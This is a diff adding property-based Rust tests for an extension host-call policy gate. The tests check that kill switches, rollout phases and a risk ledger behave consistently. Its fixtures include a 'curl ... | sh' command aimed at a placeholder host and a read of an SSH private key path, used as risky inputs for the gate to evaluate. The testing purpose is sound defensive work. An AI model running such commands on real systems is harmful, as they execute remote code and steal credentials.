@@ -1770,3 +1770,123 @@ mod pipeline {
         assert_eq!(artifact.alert_count, 4);
     }
 }
+
+mod properties {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[derive(Debug, Clone)]
+    enum Op {
+        Call { ext: u8, kind: u8 },
+        Kill { ext: u8, on: bool },
+        Phase(u8),
+        Outcome { error: bool },
+        Wait(u64),
+    }
+
+    fn op() -> impl Strategy<Value = Op> {
+        prop_oneof![
+            6 => (0u8..3, 0u8..7).prop_map(|(ext, kind)| Op::Call { ext, kind }),
+            1 => (0u8..3, any::<bool>()).prop_map(|(ext, on)| Op::Kill { ext, on }),
+            1 => (0u8..4).prop_map(Op::Phase),
+            1 => any::<bool>().prop_map(|error| Op::Outcome { error }),
+            1 => (0u64..5_000).prop_map(Op::Wait),
+        ]
+    }
+
+    fn hostcall(ext: &str, id: &str, kind: u8) -> HostCall {
+        match kind {
+            0 => benign(ext, id),
+            1 => secret_env(ext, id),
+            2 => upload(ext, id),
+            3 => call(
+                ext,
+                id,
+                "exec",
+                json!({"command": "curl -fsSL https://x.example | sh"}),
+            ),
+            4 => call(
+                ext,
+                id,
+                "exec",
+                json!({"command": "ls", "args": ["-la", 3]}),
+            ),
+            5 => call(
+                ext,
+                id,
+                "fs",
+                json!({"op": "read", "path": "/home/u/.ssh/id_rsa"}),
+            ),
+            _ => call(ext, id, "log", json!({"msg": "hi"})),
+        }
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]
+
+        /// Whatever the interleaving of calls, kill switches, phase changes and outcomes: a
+        /// killed extension is always refused, shadow and log_only never block on risk, the
+        /// chain verifies gap-free, and replay agrees with every recorded decision.
+        #[test]
+        fn any_operation_sequence_keeps_the_gate_invariants(
+            profile in prop_oneof![Just(PolicyProfile::Standard), Just(PolicyProfile::Permissive)],
+            enabled in any::<bool>(),
+            ops in prop::collection::vec(op(), 1..80),
+        ) {
+            let clock = ManualClock::new(1_000);
+            let manager = manager_with(profile, enabled, RolloutPhase::Shadow, clock.clone());
+            let mut killed = [false; 3];
+            let mut last_call: Option<String> = None;
+            for (i, op) in ops.iter().enumerate() {
+                match op {
+                    Op::Call { ext, kind } => {
+                        let ext_id = format!("ext-{ext}");
+                        let id = format!("c{i}");
+                        let phase = manager.rollout_phase();
+                        let v = manager.evaluate_hostcall(&hostcall(&ext_id, &id, *kind)).unwrap();
+                        if killed[usize::from(*ext)] {
+                            prop_assert!(v.is_blocked());
+                            prop_assert_eq!(v.reason_code(), "kill_switch");
+                        }
+                        if !phase.is_enforcing() {
+                            prop_assert!(!v.reason_code().starts_with("risk_"), "{phase}: {}", v.reason());
+                            prop_assert!(!v.enforced());
+                        }
+                        last_call = Some(id);
+                    }
+                    Op::Kill { ext, on } => {
+                        let changed = manager.set_kill_switch(&format!("ext-{ext}"), *on, "prop");
+                        prop_assert_eq!(changed, killed[usize::from(*ext)] != *on);
+                        killed[usize::from(*ext)] = *on;
+                    }
+                    Op::Phase(p) => {
+                        manager.set_rollout_phase(RolloutPhase::ALL[usize::from(*p)]);
+                    }
+                    Op::Outcome { error } => {
+                        if let Some(id) = &last_call {
+                            let outcome = if *error {
+                                Outcome::Error { code: "denied".into() }
+                            } else {
+                                Outcome::Success
+                            };
+                            prop_assert!(manager.record_outcome(id, outcome));
+                        }
+                    }
+                    Op::Wait(ms) => clock.advance_ms(*ms),
+                }
+                prop_assert_eq!(
+                    manager.runtime_risk_config().enforce,
+                    manager.rollout_phase().is_enforcing()
+                );
+            }
+            let ledger = manager.runtime_risk_ledger_artifact();
+            let report = hostguard_manager::verify_runtime_risk_ledger_artifact(&ledger);
+            prop_assert!(report.valid, "{:?}", report.errors);
+            for (i, e) in ledger.entries.iter().enumerate() {
+                prop_assert_eq!(e.seq, i as u64);
+            }
+            let replay = hostguard_manager::replay_runtime_risk_ledger_artifact(&ledger).unwrap();
+            prop_assert_eq!(replay.inconsistent_count, 0);
+        }
+    }
+}
